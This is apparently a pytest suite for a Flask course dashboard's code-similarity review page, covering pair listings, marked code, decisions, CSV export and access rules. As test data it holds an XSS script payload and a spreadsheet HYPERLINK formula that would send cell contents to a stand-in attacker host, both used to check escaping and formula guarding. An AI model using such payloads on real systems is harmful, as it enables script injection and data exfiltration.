"""The similarity review (issue 20) through Flask's test client, on SQLite and PostgreSQL (the
fixtures of ``tests/service/test_dashboard.py``): an exercise's latest finished similarity run with its
pairs (flagged first), both signals, both students' scores and times; one pair's code side by
side with the matching parts marked (and a student's hostile code shown as text); decisions
with their audit trail, which never change a score; the CSV and its guard against formulas;
the button that queues a run; who may see any of it.

Runs and pairs are written as the similarity job writes them; the submissions are real
notebooks in the upload store, and the code beside a pair is ``grader.similarity``'s
``notebook_code`` of them. While that library is not installed (it is built beside this page),
a stand-in that joins the code cells' sources takes its place (:func:`code_library`); the spans
are always computed from whichever text the page reads.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import sys
import types
from collections.abc import Callable
from typing import Any

import nbformat
import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select

from service.blobs import FolderBlobStore
from service.domain import similarity_code
from service.domain.course_rules import RulesError
from service.domain.gradebook import exercise_rows
from service.domain.roster import import_roster
from service.domain.similarity_code import clean_spans, marked_code
from service.domain.similarity_review import record_decision
from service.extensions import db
from service.models import (
    GradingRun,
    ItemScore,
    SimilarityPair,
    SimilarityReview,
    SimilarityRun,
    Student,
    Submission,
    utcnow,
)
from service.states import ReviewDecision, SimilarityState
from tests.service import test_dashboard as base
from tests.service.test_dashboard import EXERCISE, AppFactory, add_instructor, text_of

# The dashboard tests' fixtures over tests/service/conftest.py's factory: CSRF off, the class of
# test_dashboard's roster, a logged-in instructor.
app_config, app, staff = base.app_config, base.app, base.staff

PAGE = f"/dashboard/{EXERCISE}/similarity"
#: A student's hostile code: it closes the page's tags and opens a script.
HOSTILE = 'print("</pre></script><script>alert(1)</script>")'
SHARED = "def shared_helper(x):\n    return sorted(set(x))[::-1]\n"


# --- the code library -----------------------------------------------------------------------------


def _stand_in_code(data: bytes) -> types.SimpleNamespace:
    """The code cells' sources joined by newlines, for as long as ``grader.similarity`` is
    missing."""
    notebook = nbformat.reads(data.decode("utf-8"), as_version=4)
    return types.SimpleNamespace(text="\n".join(
        cell.source for cell in notebook.cells if cell.cell_type == "code"))


@pytest.fixture
def code_library(monkeypatch: pytest.MonkeyPatch) -> Callable[[bytes], str]:
    """``code(notebook bytes)``: the text the spans index into, from ``grader.similarity``
    when installed, else from a stand-in put in its place for the page too."""
    try:
        from grader.similarity import notebook_code
    except ImportError:
        module = types.ModuleType("grader.similarity")
        module.notebook_code = _stand_in_code
        monkeypatch.setitem(sys.modules, "grader.similarity", module)
        notebook_code = _stand_in_code
    return lambda data: str(notebook_code(data).text)


# --- the class, written as the workers write it ---------------------------------------------------


def notebook_bytes(*sources: str) -> bytes:
    notebook = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_markdown_cell("# Chapter 6"),
        *(nbformat.v4.new_code_cell(source) for source in sources)])
    return nbformat.writes(notebook).encode("utf-8")


def add_graded(app: Flask, student_id: str, data: bytes, score: float,
               minutes_ago: float) -> int:
    """A submission of ``data`` (in the upload store) with a graded run scoring ``score``."""
    created = utcnow().replace(microsecond=0) - dt.timedelta(minutes=minutes_ago)
    with app.app_context():
        sha = FolderBlobStore(app.config["UPLOAD_DIR"]).put(data)
        student = db.session.execute(
            select(Student).where(Student.student_id == student_id)).scalar_one()
        submission = Submission(student=student, exercise=EXERCISE, filename="hw.ipynb",
                                notebook_sha256=sha, size=len(data), created_at=created)
        GradingRun(submission=submission, state="graded", outcome="graded", score=score,
                   max_score=100.0, measured_accuracy=0.98, queued_at=created,
                   started_at=created + dt.timedelta(seconds=20),
                   finished_at=created + dt.timedelta(minutes=3),
                   items=[ItemScore(position=0, item_id="conv1", score=score, max_score=100.0,
                                    status="correct")])
        db.session.add(submission)
        db.session.commit()
        return submission.id


def span_of(text: str, needle: str) -> list[int]:
    start = text.index(needle)
    return [start, start + len(needle)]


@pytest.fixture
def planted(app: Flask, code_library: Callable[[bytes], str]) -> dict[str, Any]:
    """s001 and s002 share a helper (the flagged code pair, s002's code is hostile too); s001
    and s003 have identical weights (a flagged model pair, no code signal); s002 and s003 a
    pair below the thresholds. Inserted out of order: the page orders them."""
    notebooks = {
        "s001": notebook_bytes("import numpy as np", SHARED + "print(shared_helper([3, 1]))"),
        "s002": notebook_bytes(HOSTILE, "x = [1, 2]\n" + SHARED),
        "s003": notebook_bytes("import tensorflow as tf", "model = tf.keras.Sequential()"),
    }
    scores = {"s001": 80.0, "s002": 64.5, "s003": 71.0}
    ages = {"s001": 120, "s002": 90, "s003": 60}
    subs = {sid: add_graded(app, sid, data, scores[sid], ages[sid])
            for sid, data in notebooks.items()}
    texts = {sid: code_library(data) for sid, data in notebooks.items()}
    finished = utcnow().replace(microsecond=0) - dt.timedelta(minutes=5)
    with app.app_context():
        pk = {s.student_id: s.id for s in db.session.execute(select(Student)).scalars()}
        run = SimilarityRun(exercise=EXERCISE, state=SimilarityState.DONE,
                            requested_by="teacher", started_at=finished - dt.timedelta(seconds=9),
                            finished_at=finished, submissions={k: v for k, v in subs.items()},
                            summary={"thresholds": {"code": 0.5, "model": 0.6}, "pairs": 3})
        db.session.add(run)
        db.session.flush()

        def pair(a: str, b: str, rank: int, **fields: Any) -> SimilarityPair:
            row = SimilarityPair(run_id=run.id, rank=rank, student_a_pk=pk[a],
                                 student_b_pk=pk[b], submission_a_id=subs[a],
                                 submission_b_id=subs[b], **fields)
            db.session.add(row)
            db.session.flush()
            return row

        low = pair("s002", "s003", 1, code=0.12, distinctive=0, model=0.2)
        model = pair("s001", "s003", 2, code=None, distinctive=None, model=0.95,
                     identical_weights=True, model_flagged=True, flagged=True)
        code = pair("s001", "s002", 0, code=0.8137, distinctive=14, model=None,
                    code_flagged=True, flagged=True,
                    spans={"a": [span_of(texts["s001"], SHARED)],
                           "b": [span_of(texts["s002"], SHARED), [10**9, 10**9 + 5]]})
        db.session.commit()
        return {"run": run.id, "code": code.id, "model": model.id, "low": low.id,
                "pk": pk, "subs": subs, "texts": texts}


def pair_rows(page: str) -> list[str]:
    """The pairs' ids in the order of the table's rows."""
    return re.findall(r'<tr class="pair[^"]*" data-pair="(\d+)"', page)


def pair_row(page: str, pair_id: int) -> str:
    start = page.index(f'data-pair="{pair_id}"')
    return page[start:page.index("</tr>", start)]


def finals(app: Flask) -> dict[str, float | None]:
    with app.app_context():
        return {row.student.student_id: row.final for row in exercise_rows(db.session, EXERCISE)}


def reviews(app: Flask) -> list[tuple[str, str, str]]:
    with app.app_context():
        return [(r.decision.value if isinstance(r.decision, ReviewDecision) else r.decision,
                 r.comment, r.author)
                for r in db.session.execute(
                    select(SimilarityReview).order_by(SimilarityReview.id)).scalars()]


# --- the review page -----------------------------------------------------------------------------


def test_the_review_page_lists_flagged_pairs_first_with_both_signals_scores_and_times(
        app: Flask, staff: FlaskClient, planted: dict[str, Any]):
    page = text_of(staff.get(PAGE))
    assert pair_rows(page) == [str(planted["code"]), str(planted["model"]), str(planted["low"])]
    code = pair_row(page, planted["code"])
    assert "s001" in code and "Aoi Tanaka" in code and "s002" in code and "Ben Carter" in code
    assert '<td class="num code strong">81.4%</td>' in code
    assert '<td class="num distinctive">14</td>' in code
    assert '<td class="num model">—</td>' in code  # no model fingerprint: no signal
    assert '<span class="final">80</span>' in code and '<span class="final">64.5</span>' in code
    with app.app_context():
        s002 = db.session.get(Submission, planted["subs"]["s002"])
        assert f'datetime="{s002.created_at.isoformat()}Z"' in code
    model = pair_row(page, planted["model"])
    assert '<td class="num code">—</td>' in model and '<td class="num distinctive">—</td>' in model
    assert '<td class="num model strong">95%</td>' in model and "identical" in model
    assert "flagged" in model and "flagged" not in pair_row(page, planted["low"])
    assert all("Open" in pair_row(page, planted[key]) for key in ("code", "model", "low"))
    # the run: which, who asked, over how many submissions, its thresholds
    assert f"#{planted['run']}" in page and "teacher" in page
    assert "3 submissions (one per student)" in page
    assert "<code>code</code> = 0.5" in page and "<code>model</code> = 0.6" in page
    assert "A flag or a decision never changes a score" in page
    assert 'id="similarity-newer"' not in page
    # the exercise page links here
    assert f'href="{PAGE}"' in text_of(staff.get(f"/dashboard/{EXERCISE}"))


def test_a_newer_run_not_finished_is_announced_and_the_finished_one_still_shown(
        app: Flask, staff: FlaskClient, planted: dict[str, Any]):
    with app.app_context():
        failed = SimilarityRun(exercise=EXERCISE, state=SimilarityState.FAILED,
                               requested_by="cli", reason="worker lost: out of memory")
        db.session.add(failed)
        db.session.commit()
        failed_id = failed.id
    page = text_of(staff.get(PAGE))
    notice = page[page.index('id="similarity-newer"'):]
    assert f"A newer check (#{failed_id}) is failed" in notice
    assert "worker lost: out of memory" in notice
    assert len(pair_rows(page)) == 3
    with app.app_context():
        db.session.add(SimilarityRun(exercise=EXERCISE, requested_by="teacher"))
        db.session.commit()
    page = text_of(staff.get(PAGE))
    assert "is queued" in page and "out of memory" not in page
    assert len(pair_rows(page)) == 3


def test_without_a_finished_run_the_page_says_so(app: Flask, staff: FlaskClient):
    page = text_of(staff.get(PAGE))
    assert "No similarity check of this exercise has finished yet." in page
    assert pair_rows(page) == [] and 'id="similarity-csv"' not in page
    assert 'id="similarity-start"' in page


def test_the_page_in_japanese(app: Flask, staff: FlaskClient, planted: dict[str, Any]):
    page = text_of(staff.get(f"{PAGE}?lang=ja"))
    assert "類似度レビュー" in page and "類似度チェックを実行" in page
    assert "3 件の提出（学生ごとに 1 件）" in page and "未確認" in page and "要確認" in page
    assert "フラグや判断で点数は変わりません" in page
    pair = text_of(staff.get(f"{PAGE}/{planted['code']}"))  # the language is remembered
    assert "コードの比較" in pair and "判断を保存" in pair
    refused = staff.post(f"{PAGE}/{planted['code']}/decision",
                         data={"decision": "confirmed", "comment": ""})
    assert refused.status_code == 400
    assert "コメントが必要です" in text_of(refused)


# --- one pair -------------------------------------------------------------------------------------


def test_the_pair_page_shows_both_codes_with_the_matching_parts_marked(
        app: Flask, staff: FlaskClient, planted: dict[str, Any]):
    page = text_of(staff.get(f"{PAGE}/{planted['code']}"))
    side_a = page[page.index('id="code-a"'):page.index('id="code-b"')]
    side_b = page[page.index('id="code-b"'):page.index('id="decision"')]
    marked = "def shared_helper(x):\n    return sorted(set(x))[::-1]\n"
    assert re.findall(r"<mark>(.*?)</mark>", side_a, re.S) == [marked]
    assert re.findall(r"<mark>(.*?)</mark>", side_b, re.S) == [marked]  # the stray span clipped
    assert "1 matching parts marked." in side_b
    assert "print(shared_helper([3, 1]))" in side_a and "import numpy as np" in side_a
    # the whole of each side's code is shown, in order, as text
    pre_a = re.search(r'<pre class="code-view"[^>]*>(.*?)</pre>', side_a, re.S).group(1)
    assert re.sub(r"</?mark>", "", pre_a) == planted["texts"]["s001"]
    # both signals, each explained
    assert "81.4%" in page and "Distinctive k-grams: 14" in page
    assert "that both wrote alike" in page and "the same wrong class" in page
    assert '<span class="final">80</span>' in side_a and '<span class="final">64.5</span>' in side_b


def test_hostile_code_is_shown_as_text(app: Flask, staff: FlaskClient, planted: dict[str, Any]):
    response = staff.get(f"{PAGE}/{planted['code']}")
    page = text_of(response)
    assert "<script>alert(1)" not in page and "</script><script>" not in page
    assert ("print(&#34;&lt;/pre&gt;&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;&#34;)"
            in page)
    assert "default-src 'self'" in response.headers["Content-Security-Policy"]  # no inline


def test_a_model_pair_without_spans_and_a_missing_notebook(
        app: Flask, staff: FlaskClient, planted: dict[str, Any]):
    with app.app_context():
        sha = db.session.get(Submission, planted["subs"]["s003"]).notebook_sha256
    FolderBlobStore(app.config["UPLOAD_DIR"]).path(sha).unlink()
    page = text_of(staff.get(f"{PAGE}/{planted['model']}"))
    assert "<mark>" not in page and "0 matching parts marked." in page
    assert "This notebook's code cannot be shown" in page  # s003's side
    assert page.count('<pre class="code-view"') == 1  # s001's side is there
    assert "95%" in page and "identical" in page


def test_long_code_is_cut_and_said_so(app: Flask, staff: FlaskClient, planted: dict[str, Any],
                                      monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setattr(similarity_code, "MAX_CODE_CHARS", 40)
    page = text_of(staff.get(f"{PAGE}/{planted['code']}"))
    total = len(planted["texts"]["s001"])
    assert f"Only the first 40 of {total} characters are shown." in page


def test_unknown_pairs_and_exercises_are_404(app: Flask, staff: FlaskClient,
                                             planted: dict[str, Any]):
    with app.app_context():
        other = SimilarityRun(exercise="chap07_other", state=SimilarityState.DONE)
        db.session.add(other)
        db.session.flush()
        pk, subs = planted["pk"], planted["subs"]
        elsewhere = SimilarityPair(run_id=other.id, rank=0, student_a_pk=pk["s001"],
                                   student_b_pk=pk["s002"], submission_a_id=subs["s001"],
                                   submission_b_id=subs["s002"])
        db.session.add(elsewhere)
        db.session.commit()
        elsewhere_id = elsewhere.id
    assert staff.get(f"{PAGE}/{elsewhere_id}").status_code == 404
    assert staff.post(f"{PAGE}/{elsewhere_id}/decision",
                      data={"decision": "open"}).status_code == 404
    assert staff.get(f"{PAGE}/999999").status_code == 404
    assert staff.get("/dashboard/no_such_exercise/similarity").status_code == 404
    assert staff.get("/dashboard/no_such_exercise/similarity.csv").status_code == 404


# --- decisions ------------------------------------------------------------------------------------


def test_decisions_keep_an_audit_trail_and_never_change_a_score(
        app: Flask, staff: FlaskClient, planted: dict[str, Any]):
    before = finals(app)
    path = f"{PAGE}/{planted['code']}/decision"
    confirmed = staff.post(path, data={"decision": "confirmed",
                                       "comment": "Same helper, same typo; talked to both."})
    assert confirmed.status_code == 303
    assert confirmed.location == f"{PAGE}/{planted['code']}#decision"
    assert "Decision saved: Confirmed." in text_of(staff.get(confirmed.location))
    assert staff.post(path, data={"decision": "dismissed",
                                  "comment": "They were allowed to work together."}
                      ).status_code == 303
    assert staff.post(path, data={"decision": "open", "comment": ""}).status_code == 303
    assert reviews(app) == [
        ("confirmed", "Same helper, same typo; talked to both.", "teacher"),
        ("dismissed", "They were allowed to work together.", "teacher"),
        ("open", "", "teacher")]
    assert finals(app) == before  # a decision changes no score

    page = text_of(staff.get(f"{PAGE}/{planted['code']}"))
    trail = page[page.index('id="decision-trail"'):]
    rows = re.findall(r'<td class="decision">(\w+)</td><td class="comment">([^<]*)</td>', trail)
    assert rows == [("Open", ""), ("Dismissed", "They were allowed to work together."),
                    ("Confirmed", "Same helper, same typo; talked to both.")]  # newest first
    assert re.search(r'id="decision-now"><span class="badge decision-open">Open', page)

    assert staff.post(path, data={"decision": "dismissed", "comment": "Common source."}
                      ).status_code == 303
    listing = text_of(staff.get(PAGE))
    assert "Dismissed" in pair_row(listing, planted["code"])
    assert "Open" in pair_row(listing, planted["model"])
    assert finals(app) == before


def test_a_decision_survives_a_new_run(app: Flask, staff: FlaskClient, planted: dict[str, Any]):
    assert staff.post(f"{PAGE}/{planted['code']}/decision",
                      data={"decision": "dismissed", "comment": "Study group."}
                      ).status_code == 303
    with app.app_context():
        pk, subs = planted["pk"], planted["subs"]
        run = SimilarityRun(exercise=EXERCISE, state=SimilarityState.DONE,
                            finished_at=utcnow(), submissions={}, summary={})
        db.session.add(run)
        db.session.flush()
        again = SimilarityPair(run_id=run.id, rank=0, student_a_pk=pk["s001"],
                               student_b_pk=pk["s002"], submission_a_id=subs["s001"],
                               submission_b_id=subs["s002"], code=0.7, distinctive=9,
                               flagged=True, code_flagged=True)
        db.session.add(again)
        db.session.commit()
        again_id = again.id
    page = text_of(staff.get(PAGE))
    assert pair_rows(page) == [str(again_id)]  # the new run replaces the old one's view
    assert "Dismissed" in pair_row(page, again_id)
    old = text_of(staff.get(f"{PAGE}/{planted['code']}"))  # the old record is still there
    assert f"This pair comes from an older check (#{planted['run']})" in old


@pytest.mark.parametrize(("form", "message"), [
    ({"decision": "confirmed", "comment": "  "}, "a comment is required to dismiss or confirm"),
    ({"decision": "dismissed", "comment": ""}, "a comment is required to dismiss or confirm"),
    ({"decision": "confirmed", "comment": "x" * 2001}, "the comment is too long (at most 2000"),
    ({"decision": "maybe", "comment": "hm"}, "Choose a decision."),
])
def test_refused_decisions_store_nothing(app: Flask, staff: FlaskClient, planted: dict[str, Any],
                                         form: dict[str, str], message: str):
    response = staff.post(f"{PAGE}/{planted['code']}/decision", data=form)
    assert response.status_code == 400
    page = text_of(response)
    assert message in page and 'id="decision-error"' in page
    assert reviews(app) == []


def test_record_decision_refuses_what_no_run_paired(app: Flask, planted: dict[str, Any]):
    pk = planted["pk"]
    with app.app_context():
        with pytest.raises(RulesError) as caught:
            record_decision(EXERCISE, pk["s002"], pk["s004"], "confirmed", "why", "t")
        assert caught.value.key == "rules.review_unknown_pair"
        assert "ペア" in caught.value.text.ja
        with pytest.raises(RulesError, match="unknown decision 'maybe'"):
            record_decision(EXERCISE, pk["s001"], pk["s002"], "maybe", "why", "t")
        # given the other way round, the row keeps the pair's order
        row = record_decision(EXERCISE, pk["s002"], pk["s001"], ReviewDecision.CONFIRMED,
                              " why ", "t")
        assert (row.student_a_pk, row.student_b_pk, row.comment) == (pk["s001"], pk["s002"],
                                                                     "why")


# --- the CSV --------------------------------------------------------------------------------------


def test_the_csv_lists_the_pairs_with_signals_decisions_and_guards_formulas(
        app: Flask, staff: FlaskClient, planted: dict[str, Any]):
    with app.app_context():
        s002 = db.session.get(Student, planted["pk"]["s002"])
        s002.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        db.session.commit()
    assert staff.post(f"{PAGE}/{planted['code']}/decision",
                      data={"decision": "confirmed", "comment": "@SUM(1+1) shared work"}
                      ).status_code == 303
    response = staff.get(f"{PAGE}.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert re.match(rf'attachment; filename="{EXERCISE}-similarity-\d{{8}}\.csv"',
                    response.headers["Content-Disposition"])
    raw = response.get_data()
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert [(r["student_a"], r["student_b"]) for r in rows] == [
        ("s001", "s002"), ("s001", "s003"), ("s002", "s003")]
    first, second, third = rows
    assert first["run_id"] == str(planted["run"]) and first["run_finished_at"].endswith("Z")
    assert (first["code"], first["distinctive"], first["model"]) == ("0.8137", "14", "")
    assert (second["code"], second["distinctive"], second["model"]) == ("", "", "0.9500")
    assert (second["identical_weights"], first["identical_weights"]) == ("yes", "")
    assert (first["flagged"], second["flagged"], third["flagged"]) == ("yes", "yes", "")
    assert (first["score_a"], first["score_b"]) == ("80", "64.5")
    assert first["name_a"] == "Aoi Tanaka"
    assert first["name_b"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert (first["decision"], first["comment"], first["decided_by"]) == (
        "confirmed", "'@SUM(1+1) shared work", "teacher")
    assert (second["decision"], second["comment"]) == ("open", "")
    # the page shows the name as typed (escaped), only the CSV guards it
    assert "=HYPERLINK(&#34;http://evil.example/?&#34;&amp;A1" in text_of(staff.get(PAGE))


def test_the_csv_without_a_run_has_the_header_alone(app: Flask, staff: FlaskClient):
    text = staff.get(f"{PAGE}.csv").get_data(as_text=True)
    assert text.lstrip("\ufeff").splitlines() == [
        "run_id,run_finished_at,rank,student_a,name_a,student_b,name_b,code,distinctive,model,"
        "identical_weights,flagged,score_a,score_b,decision,comment,decided_by,decided_at"]


# --- the button -----------------------------------------------------------------------------------


def test_the_button_queues_one_run_at_a_time(app: Flask, staff: FlaskClient,
                                              monkeypatch: pytest.MonkeyPatch):
    from service.queue import dispatch

    handed: list[int] = []
    # the similarity job's hand-over (``enqueue_similarity``), built beside this page: the
    # test only checks the page hands each new run over once
    monkeypatch.setattr(dispatch, "enqueue_similarity", handed.append, raising=False)
    first = staff.post(f"{PAGE}/run")
    assert first.status_code == 303 and first.location == PAGE
    with app.app_context():
        runs = db.session.execute(select(SimilarityRun)).scalars().all()
        assert [(r.state, r.requested_by, r.exercise) for r in runs] == [
            (SimilarityState.QUEUED, "teacher", EXERCISE)]
        run_id = runs[0].id
    assert handed == [run_id]
    page = text_of(staff.get(PAGE))
    assert f"Similarity check #{run_id} is queued." in page
    assert f"A newer check (#{run_id}) is queued" in page
    again = staff.post(f"{PAGE}/run")
    assert again.status_code == 303
    assert f"#{run_id} is already queued or running" in text_of(staff.get(PAGE))
    with app.app_context():
        assert db.session.execute(select(func.count()).select_from(SimilarityRun)
                                  ).scalar_one() == 1
    assert handed == [run_id]


# --- who may ---------------------------------------------------------------------------------------


def test_students_and_visitors_reach_none_of_it(app: Flask, planted: dict[str, Any],
                                               monkeypatch: pytest.MonkeyPatch):
    from service.queue import dispatch

    monkeypatch.setattr(dispatch, "enqueue_similarity", lambda run_id: None, raising=False)
    with app.app_context():
        issued, _ = import_roster("student_id,name,email\ns009,Eve,\n")
    student = app.test_client()
    student.environ_base["HTTP_ACCEPT_LANGUAGE"] = "en"
    assert student.post("/login", data={"token": issued[0].token}).status_code == 303
    anonymous = app.test_client()
    paths = (PAGE, f"{PAGE}.csv", f"{PAGE}/{planted['code']}")
    for path in paths:
        assert student.get(path).status_code == 403, path
        refused = anonymous.get(path)
        assert refused.status_code == 302 and refused.location.startswith("/dashboard/login")
    for client in (student, anonymous):
        assert client.post(f"{PAGE}/{planted['code']}/decision",
                           data={"decision": "confirmed", "comment": "x"}).status_code in (
            302, 403)
        assert client.post(f"{PAGE}/run").status_code in (302, 403)
    assert reviews(app) == []
    with app.app_context():
        assert db.session.execute(select(func.count()).select_from(SimilarityRun)
                                  ).scalar_one() == 1


def test_the_forms_need_the_csrf_token(make_app: AppFactory, monkeypatch: pytest.MonkeyPatch):
    from service.queue import dispatch

    monkeypatch.setattr(dispatch, "enqueue_similarity", lambda run_id: None, raising=False)
    app = make_app(WTF_CSRF_ENABLED=True)
    with app.app_context():
        import_roster(base.ROSTER)
    add_instructor(app)
    client = app.test_client()
    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "en"
    token = base.csrf_token_of(text_of(client.get("/dashboard/login")))
    assert client.post("/dashboard/login", data={"username": "teacher", "password": base.PASSWORD,
                                                 "csrf_token": token}).status_code == 303
    assert client.post(f"{PAGE}/run").status_code == 400
    with app.app_context():
        assert db.session.execute(select(func.count()).select_from(SimilarityRun)
                                  ).scalar_one() == 0
    page_token = base.csrf_token_of(text_of(client.get(PAGE)))
    assert client.post(f"{PAGE}/run", data={"csrf_token": page_token}).status_code == 303
    with app.app_context():
        assert db.session.execute(select(func.count()).select_from(SimilarityRun)
                                  ).scalar_one() == 1


# --- marking spans (no database) -------------------------------------------------------------------


def test_spans_are_checked_clipped_merged_and_bounded():
    assert clean_spans([[5, 9], [0, 3], [2, 4], [9, 12], [20, 30], [7, 8]], 25) == [
        (0, 4), (5, 12), (20, 25)]
    assert clean_spans([[3, 3], [-5, 2], [4, 1], ["0", 1], [0.5, 2], [True, 3], [1, 2, 3],
                        None, "ab", [30, 40]], 10) == [(0, 2)]
    assert clean_spans("not spans", 10) == [] and clean_spans(None, 10) == []
    assert clean_spans({"a": 1}, 10) == []
    many = [[i * 2, i * 2 + 1] for i in range(5000)]
    assert len(clean_spans(many, 100_000, limit=100)) == 100


def test_marked_code_splits_the_text_and_cuts_it():
    shown = marked_code("abcdefghij", [[2, 4], [6, 20]])
    assert [(s.text, s.marked) for s in shown.segments] == [
        ("ab", False), ("cd", True), ("ef", False), ("ghij", True)]
    assert (shown.length, shown.truncated, shown.marks) == (10, False, 2)
    cut = marked_code("x" * 50 + "</script>", [[0, 3], [48, 59]], max_chars=52)
    assert "".join(s.text for s in cut.segments) == "x" * 50 + "</"
    assert (cut.length, cut.truncated, cut.marks) == (59, True, 2)
    assert marked_code("", [[0, 1]]).segments == ()
